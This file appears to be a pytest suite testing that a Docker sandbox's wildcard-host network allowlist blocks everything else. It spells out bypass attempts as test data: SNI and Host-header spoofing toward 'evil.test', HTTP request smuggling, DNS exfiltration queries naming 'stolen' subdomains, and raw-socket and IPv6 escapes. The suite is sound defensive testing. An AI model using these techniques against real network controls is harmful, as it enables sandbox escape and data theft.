"""An allowlist with `*.host` on docker: what is reached is what TLS or HTTP asks for by name."""

import json
from collections.abc import Iterator

import pytest

from agentcompass.environments._docker_container import HELPER
from agentcompass.errors import EnvironmentFailed
from agentcompass.records.environment import NetworkPolicy
from tests.docker_engine import NO_ENGINE, containers, docker
from tests.environments.docker_sessions import make, opened
from tests.environments.docker_world import CIPHERS, World, world

pytestmark = [pytest.mark.docker, NO_ENGINE]

# Runs expressions of what is defined here, one by one, and prints what became of each.
CLIENT = """
import json, os, socket, ssl, struct, sys
CIPHERS = sys.argv[1]
def tls(name, port=443, address=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    context.set_ciphers(CIPHERS)
    with socket.create_connection((address or name, port), timeout=3) as made:
        with context.wrap_socket(made, server_hostname=name) as secure:
            secure.sendall(b"hi")
            return secure.recv(99).decode()[-5:]
def tcp(address, data, port=80):
    got = b""
    with socket.create_connection((address, port), timeout=3) as made:
        made.sendall(data.encode())
        while piece := made.recv(4096):
            got += piece
    if not got:
        raise ConnectionError
    return got.decode().count("hello") * "hello"
def get(host, address=None, target="/", more=""):
    head = f"GET {target} HTTP/1.1\\r\\nHost: {host}\\r\\n{more}\\r\\n"
    return tcp(address or host, head)
def udp(address, port, data):
    with socket.socket(type=socket.SOCK_DGRAM) as made:
        made.settimeout(1)
        made.sendto(data, (address, port))
        return made.recv(4096)
def ask(server, name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    query = b"ab\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0" + bytes([kind]) + b"\\0\\1"
    got = udp(server, 53, query)
    return f"code {got[3] & 15} answers {got[7]}"
def find(name):
    return socket.gethostbyname(name)
def mark():
    with socket.socket() as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0xA6E27)
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
def v6():
    socket.create_connection(("2001:db8::1", 443), timeout=1)
told = []
for expression in json.loads(os.environ["TRY"]):
    try:
        told.append(eval(expression) or "done")
    except OSError as error:
        told.append("failed")
print(json.dumps(told))
"""


@pytest.fixture(scope="module")
def outside() -> Iterator[World]:
    with world() as made:
        yield made


def allow(*hosts: str) -> NetworkPolicy:
    return NetworkPolicy(network_mode="allowlist", allowed_hosts=hosts)


def within(outside: World, *hosts: str, **options):
    return opened(config={"dns": (outside.address,)}, network_policy=allow(*hosts), **options)


async def tries(session, *expressions: str) -> list[str]:
    done = await session.exec(
        ["python3", "-c", CLIENT, CIPHERS], env={"TRY": json.dumps(expressions)}
    )
    assert done.ok, done.stderr
    return json.loads(done.stdout)


async def test_hosts_below_the_domain_are_reached_by_tls_and_by_http(outside):
    async with within(outside, "*.Example.test") as session:
        told = await tries(
            session,
            "tls('api.example.test')",
            "tls('A.deeper.EXAMPLE.test')",
            "get('api.example.test')",
            "get('API.example.test.', 'api.example.test')",
            "get('api.example.test:80', 'api.example.test')",
        )

    assert told == ["hello"] * 5
    assert "tls api.example.test" in outside.heard()


async def test_no_other_name_is_reached_in_whatever_way_it_is_asked_for(outside):
    here = repr(outside.address)
    before = outside.heard()
    async with within(outside, "*.example.test") as session:
        told = await tries(
            session,
            f"tls('example.test', address={here})",
            f"tls('evil.test', address={here})",
            f"tls('badexample.test', address={here})",
            f"tls('api.example.test.evil.test', address={here})",
            f"tls(None, address={here})",
            f"tls('api.example.test', port=8443, address={here})",
            f"get('evil.test', {here})",
            f"get({here}, {here})",
            f"get('api.example.test', {here}, target='http://evil.test/')",
            f"get('api.example.test', {here}, more='Host: evil.test\\r\\n')",
            f"tcp({here}, 'CONNECT a.example.test HTTP/1.1\\r\\nHost: a.example.test\\r\\n\\r\\n')",
            f"tcp({here}, 'no protocol\\r\\n\\r\\n')",
            f"tcp({here}, 'no protocol\\r\\n\\r\\n', 443)",
            f"tcp({here}, 'no protocol\\r\\n\\r\\n', 9000)",
            f"udp({here}, 443, b'quic')",
            "v6()",
            "mark()",
            "packet()",
        )

    assert told == ["failed"] * 18
    assert outside.heard() == before


async def test_the_address_that_a_client_connects_to_does_not_count(outside):
    with world() as other:
        async with within(outside, "*.example.test") as session:
            told = await tries(
                session,
                f"tls('api.example.test', address={other.address!r})",
                f"get('api.example.test', {other.address!r})",
            )
        heard = other.heard()

    assert told == ["hello", "hello"]
    assert heard == ""


async def test_one_request_of_http_goes_over_a_connection_with_its_body_and_no_more(outside):
    head = "POST / HTTP/1.1\\r\\nHost: api.example.test\\r\\nConnection: keep-alive\\r\\n"
    first = head + "Content-Length: 4\\r\\n\\r\\nbody"
    async with within(outside, "*.example.test") as session:
        told = await tries(
            session,
            f"tcp('api.example.test', '{first}GET /smuggled HTTP/1.1')",
            f"tcp('api.example.test', '{head}Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')",
        )
    heard = outside.heard()

    assert told == ["hello", "failed"]
    assert r"Connection: close\r\n\r\nbody'" in heard
    assert "keep-alive" not in heard
    assert "smuggled" not in heard


async def test_a_port_that_a_pattern_names_is_the_only_one(outside):
    async with within(outside, "*.example.test:8443") as session:
        told = await tries(session, "tls('api.example.test', port=8443)", "tls('api.example.test')")

    assert told == ["hello", "failed"]


async def test_questions_of_dns_leave_for_addresses_below_the_domain_only(outside):
    here = repr(outside.address)
    async with within(outside, "*.example.test", outside.address + ":9000") as session:
        told = await tries(
            session,
            "find('x1.example.test')",
            f"ask({here}, 'x2.example.test', 1)",
            "ask('192.0.2.1', 'x3.example.test', 1)",
            f"ask({here}, 'x4.example.test', 28)",
            f"ask({here}, 'x5.example.test', 16)",
            f"ask({here}, 'stolen6.evil.test', 1)",
            f"ask({here}, 'stolen7.evil.test', 16)",
            "find('stolen8.evil.test')",
            "ask('127.0.0.11', 'stolen9.evil.test', 1)",
            f"tcp({here}, 'stolen10', 53)",
        )
    asked = {line for line in outside.heard().splitlines() if line.startswith("dns x")}

    assert told == [
        outside.address,
        *["code 0 answers 1"] * 2,
        *["code 0 answers 0"] * 2,
        *["code 3 answers 0"] * 2,
        "failed",
        "code 3 answers 0",
        "failed",
    ]
    assert asked == {f"dns x{number}.example.test 1" for number in (1, 2, 3)}
    assert "stolen" not in outside.heard()


async def test_addresses_and_patterns_go_together_and_own_servers_are_left_alone(outside):
    serve = "python3 -m http.server 443 >/dev/null 2>&1 & sleep 0.5"
    async with within(outside, "*.example.test", outside.address) as session:
        await session.exec(serve)
        told = await tries(
            session,
            f"tls('evil.test', address={outside.address!r})",
            "bool(tcp('127.0.0.1', 'GET / HTTP/1.0\\r\\n\\r\\n', 443) + 'x')",
        )

    assert told == ["hello", True]


async def test_policies_with_patterns_follow_others_in_any_order(outside):
    here = repr(outside.address)
    below, by_address = "tls('api.example.test')", f"tls('evil.test', address={here})"
    policies = [
        (allow("*.example.test"), ["hello", "failed"]),
        (NetworkPolicy(network_mode="no-network"), ["failed", "failed"]),
        (allow("*.example.test"), ["hello", "failed"]),
        (allow(f"{outside.address}:443"), ["failed", "hello"]),
        (allow("*.other.test"), ["failed", "failed"]),
        (NetworkPolicy(), ["hello", "hello"]),
        (allow("*.example.test", outside.address), ["hello", "hello"]),
        (allow("192.0.2.1"), ["failed", "failed"]),
    ]
    async with opened(config={"dns": (outside.address,)}) as session:
        for policy, expected in policies:
            await session.set_network_policy(policy)
            assert await tries(session, below, by_address) == expected, policy


async def test_without_its_helper_nothing_is_reached(outside):
    before = outside.heard()
    async with within(outside, "*.example.test") as session:
        docker("rm", "--force", session.name + HELPER)
        told = await tries(
            session,
            f"tls('api.example.test', address={outside.address!r})",
            f"ask({outside.address!r}, 'api.example.test', 1)",
        )

    assert told == ["failed", "failed"]
    assert outside.heard() == before


async def test_a_helper_goes_with_its_session_and_is_found_where_it_is_left(outside):
    async with within(outside, "*.example.test") as session:
        name = session.name
        assert {name, name + HELPER} <= set(containers())
        docker("rm", "--force", name)
        left = [
            entry["close_params"]
            for entry in await make().left_over()
            if entry["close_params"]["container"].startswith(name)
        ]
        assert [params["container"] for params in left] == [name]
        await make().close_resource(left[0])
        assert not {name, name + HELPER} & set(containers())

    async with within(outside, "*.example.test") as session:
        name = session.name
    assert not {name, name + HELPER} & set(containers())


async def test_a_network_that_belongs_to_others_gets_no_rules():
    with pytest.raises(EnvironmentFailed, match="on network 'host'"):
        async with opened(config={"network": "host"}, network_policy=allow("192.0.2.1")):
            pass
    async with opened(config={"network": "host"}) as session:
        with pytest.raises(EnvironmentFailed, match="on network 'host'"):
            await session.set_network_policy(allow("192.0.2.1"))
